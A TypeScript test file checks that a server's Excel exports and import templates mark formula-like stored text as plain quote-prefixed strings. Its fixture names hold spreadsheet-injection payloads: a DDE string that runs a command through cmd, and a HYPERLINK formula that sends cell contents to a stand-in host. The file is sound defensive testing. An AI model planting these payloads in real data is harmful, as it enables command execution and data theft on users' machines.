// Stored text that looks like a formula (OWASP's CSV injection: `=`, `+`, `-`, `@`, a leading tab or CR) reaches every
// workbook the server writes as marked text, read from the file's own XML: a string cell (never a formula), formatted
// as Text and quote-prefixed, in report exports, master-data exports and import templates; numbers and dates stay
// typed. On both databases.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EntityDef } from '../../../domain/screens/entities/definition';
import { reportCallPath, reportFor } from '../../../domain/screens/reports/registry';
import { DAY_MS } from '../../../domain/format/time';
import { sheetFields, templateHeader } from '../../../server/entities/entity-import-columns';
import { API } from '../../helpers/api';
import { defAt, savedRow, startEntityServer, type EntityServer } from '../entities/entity-server';
import { postForDownload } from '../entities/transfer-calls';
import { isMarkedText, xlsxCells, type XlsxCell } from './xlsx-cells';

const DEPOT = defAt('/setting/base_data/storage');
const STATION = defAt('/setting/base_data/station');
const TANKS = reportFor('/cargo_monitor/event_report/tank_inventory');

/** The seeded companies renamed to formula text, each a way a spreadsheet could read text as a formula. */
const COMPANY_NAMES: Readonly<Record<string, string>> = {
  C002: "=cmd|' /C calc'!A0",
  C003: '=HYPERLINK("http://example.invalid/?q="&A1,"open")',
  C004: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  C005: '\t=1+2',
  C001: '\r=3+4',
};
const DEPOT_NAMES = ['+1+1', '-2+3', '=SUM(A1:A9)'] as const;
const FORMULA_START = /^[=+\-@\t\r]/;

function formulaLike(cells: readonly XlsxCell[]): XlsxCell[] {
  return cells.filter((cell) => FORMULA_START.test(cell.text));
}

describe('formula text in written workbooks', () => {
  let api: EntityServer;

  beforeAll(async () => {
    api = await startEntityServer();
    const { db } = api.server.services;
    for (const [code, name] of Object.entries(COMPANY_NAMES)) await db.updateTable('company').set({ name }).where('code', '=', code).execute();
    for (const [index, name] of DEPOT_NAMES.entries()) {
      const input = await api.input(DEPOT, `formula${index}`, 'C002');
      savedRow(await api.create(DEPOT, 'admin', { ...input, name, shortName: name, manager: '=1+1' }));
    }
  }, 120_000);
  afterAll(async () => api.close());

  const expectMarked = (cells: readonly XlsxCell[], expected: readonly string[]) => {
    const risky = formulaLike(cells);
    // The stored texts are there, as they are stored: nothing prefixed or cut.
    for (const text of expected) expect(risky.map((cell) => cell.text)).toContain(text);
    expect(risky.filter((cell) => !isMarkedText(cell)), 'formula-like cells left unmarked').toEqual([]);
    expect(cells.filter((cell) => cell.formula)).toEqual([]);
  };

  it('marks every text cell of a report export, the posted headers too, and keeps dates and numbers typed', async () => {
    if (!TANKS) throw new Error('no tank inventory report');
    const fields = ['companyName', 'signCode', 'startTime', 'vt'];
    const headers = ['=公司', '车牌号', '-时间', '@Vt'];
    const now = Date.now();
    const response = await fetch(`${api.server.url}${API}${reportCallPath(TANKS)}/export`, {
      method: 'POST',
      headers: { 'header-id': api.token('admin'), 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ startTime: String(now - DAY_MS / 4), endTime: String(now), headers: headers.join(','), fields: fields.join(','), language: 'zh' }).toString(),
    });
    expect(response.headers.get('content-type')).toContain('spreadsheetml');
    const cells = await xlsxCells(new Uint8Array(await response.arrayBuffer()));
    expectMarked(cells, [...headers.filter((header) => FORMULA_START.test(header)), COMPANY_NAMES['C002'] ?? '']);
    // Every text cell is marked, formula-like or not (a plate is stored text too).
    expect(cells.filter((cell) => cell.ref.startsWith('B')).every(isMarkedText)).toBe(true);
    const dates = cells.filter((cell) => /^C\d+$/.test(cell.ref) && cell.ref !== 'C1');
    const volumes = cells.filter((cell) => /^D\d+$/.test(cell.ref) && cell.ref !== 'D1');
    expect(dates.length).toBeGreaterThan(0);
    for (const cell of [...dates, ...volumes]) {
      expect(cell.type).toBe('n');
      expect(Number.isFinite(Number(cell.text))).toBe(true);
    }
  });

  it('marks every text cell of a master-data export', async () => {
    const fields = ['name', 'code', 'shortName', 'companyCode', 'manager', 'modifiedAt'];
    const headers = fields.map((key) => key);
    const answer = await postForDownload(api.server.url, api.token('admin'), DEPOT, 'export', { fields: fields.join(','), headers: headers.join(','), language: 'zh' });
    const cells = await xlsxCells(answer.body);
    expectMarked(cells, [...DEPOT_NAMES, '=1+1', COMPANY_NAMES['C002'] ?? '']);
    const times = cells.filter((cell) => /^F\d+$/.test(cell.ref) && cell.ref !== 'F1' && cell.text !== '');
    expect(times.length).toBeGreaterThan(0);
    expect(times.every((cell) => cell.type === 'n')).toBe(true);
  });

  it("marks the import template's headers and its choices, the caller's company names among them", async () => {
    const def: EntityDef = STATION;
    const answer = await postForDownload(api.server.url, api.token('admin'), def, 'template', { language: 'zh' });
    expect(answer.contentType).toContain('spreadsheetml');
    const cells = await xlsxCells(answer.body);
    expectMarked(cells, Object.values(COMPANY_NAMES));
    const choices = cells.filter((cell) => cell.sheet === 'choices');
    expect(choices.length).toBeGreaterThan(0);
    expect(choices.every(isMarkedText)).toBe(true);
    const headers = cells.filter((cell) => cell.sheet === 'Sheet1' && /^[A-Z]+1$/.test(cell.ref));
    expect(headers.map((cell) => cell.text)).toEqual(sheetFields(def).map((field) => templateHeader(field, 'zh')));
    expect(headers.every(isMarkedText)).toBe(true);
  });
});
